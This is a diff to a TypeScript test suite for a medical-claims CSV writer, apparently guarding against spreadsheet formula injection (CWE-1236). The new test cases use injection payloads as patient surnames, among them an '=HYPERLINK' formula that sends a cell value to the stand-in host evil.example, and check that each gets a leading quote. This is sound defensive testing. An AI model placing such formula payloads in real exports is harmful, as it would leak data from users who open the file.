@@ -8,14 +8,21 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { describe, it } from 'node:test';
+import { describe, it, test } from 'node:test';
 import type { Claim } from '../../core/claim/model.ts';
 import type { Problem } from '../../core/problem.ts';
 import { x12SamplesDir } from '../../../test/support/shared.ts';
 import { readFhirValue } from '../fhir/index.ts';
 import { imfinziClaim } from '../fhir/testing.ts';
-import { csvColumns, readClaimCsv, writeClaimCsvFile, type CsvColumn } from './csv.ts';
-import { readClaimBytes } from './index.ts';
+import {
+  csvColumns,
+  formulaSafe,
+  readClaimCsv,
+  writeClaimCsv,
+  writeClaimCsvFile,
+  type CsvColumn,
+} from './csv.ts';
+import { readClaimBytes, writeClaimFile } from './index.ts';
 
 /** QA /tmp/qa3a/fh/base.csv: claim CLAIM001, a J9173 drug line, its JW waste line and 96413. */
 const BASE: Partial<Record<CsvColumn, string>>[] = [
@@ -330,6 +337,11 @@ describe('the CSV writer reports claims that share an id (QA item 11)', () => {
     );
     // The third claim's own position in the 837, so the message can be traced to its CLM.
     assert.equal(written.problems[0]?.at?.segmentId, 'CLM');
+    // `convert --to csv` (writeClaimFile) passes them on.
+    assert.deepEqual(
+      writeClaimFile(sample.claims, 'csv').problems.map((p) => p.code),
+      written.problems.map((p) => p.code),
+    );
     // Nothing is left out: every line is written.
     const rows = written.text.trimEnd().split('\n').length - 1;
     assert.equal(
@@ -341,4 +353,32 @@ describe('the CSV writer reports claims that share an id (QA item 11)', () => {
     const claim = readFhirValue(imfinziClaim()).claims[0] as Claim;
     assert.deepEqual(writeClaimCsvFile([claim, { ...claim, id: 'DEMO-0002' }]).problems, []);
   });
+});
+
+describe('CSV written from claims: formulas are not run by a spreadsheet (CWE-1236)', () => {
+  const claimWith = (lastName: string): Claim => {
+    const [c] = readClaimCsv(
+      'claimId,patientLastName,procedure,units,charge,serviceDate\nF1,SMITH,J9173,75,8000,2026-02-10\n',
+    ).claims;
+    assert.ok(c?.patient);
+    return { ...c, patient: { ...c.patient, lastName } };
+  };
+  const cases: [name: string, lastName: string, cellText: string][] = [
+    ['=HYPERLINK(…)', '=HYPERLINK("http://evil.example/"&A1)', `"'=HYPERLINK(""http://evil.example/""&A1)"`],
+    ['+ and @', '+SUM(A1)', "'+SUM(A1)"],
+    ['@', '@cmd', "'@cmd"],
+    ['- before text', '-2+3', "'-2+3"],
+    ['a plain name', "O'NEIL", "O'NEIL"],
+  ];
+  for (const [name, lastName, cellText] of cases)
+    test(name, () => {
+      const text = writeClaimCsv([claimWith(lastName)]);
+      const [header, row] = text.split(/\r?\n/);
+      const column = (header ?? '').split(',').indexOf('patientLastName');
+      assert.ok(column >= 0);
+      assert.ok((row ?? '').includes(cellText), row);
+      // Read back as written: the quote formulaSafe added is taken off again.
+      assert.equal(readClaimCsv(text).claims[0]?.patient?.lastName, lastName);
+    });
+  test('negative amounts stay numbers', () => assert.equal(formulaSafe('-25.00'), '-25.00'));
 });
